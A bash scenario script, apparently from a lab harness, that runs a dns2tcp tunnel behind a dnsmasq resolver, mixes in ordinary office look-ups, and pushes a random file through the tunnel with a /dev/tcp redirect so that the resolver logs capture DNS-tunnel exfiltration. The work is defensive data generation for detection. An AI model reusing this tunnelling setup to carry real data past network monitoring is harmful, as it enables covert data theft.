# dns2tcp carries a file inside DNS queries through the office's resolver (dnsmasq),
# beside ordinary look-ups. The resolver knows a few names and forwards nothing.
# shellcheck shell=bash disable=SC2154  # names come from cell.sh

start_tunnel_server() {
  printf '%s\n' "listen = 127.0.0.54" 'port = 53' 'user = nobody' 'chroot = /tmp' \
    'domain = cdn.example' "resources = kho:$server:9000" >/tmp/dns2tcpd.conf
  start dns2tcpd -F -d 1 -f /tmp/dns2tcpd.conf
}

start_resolver() {
  printf '%s\n' no-resolv no-hosts log-queries listen-address="$server" bind-interfaces \
    user=root 'server=/cdn.example/127.0.0.54' \
    'address=/haiphong.gov.vn/127.0.0.1' 'address=/dichvucong.example/127.0.0.1' >/tmp/dnsmasq.conf
  start dnsmasq -k -C /tmp/dnsmasq.conf
  wait_for dig +short +time=1 "@$server" haiphong.gov.vn >/dev/null
}

people_look_up() {
  local client name
  for client in "${office[@]}"; do
    for name in www.haiphong.gov.vn mail.haiphong.gov.vn dichvucong.example khong-co.haiphong.gov.vn; do
      dig +short "-b$client" "@$server" "$name" >/dev/null || true
    done
  done
}

carry_file() {
  head -c 6000 /dev/urandom >/tmp/du-lieu.bin
  start python3 -c "
import socket
s = socket.create_server(('$server', 9000))
while True:
    c, _ = s.accept()
    while c.recv(4096): pass
"
  start dns2tcpc -c -r kho -z cdn.example -l 8888 "$server"
  sleep 2
  timeout 20 bash -c "cat /tmp/du-lieu.bin >/dev/tcp/$server/8888; sleep 8" || true
}

start_syslog 'daemon.*' dnsmasq.log
start_tunnel_server
start_resolver
people_look_up
carry_file
people_look_up
sleep 1
keep dnsmasq.log
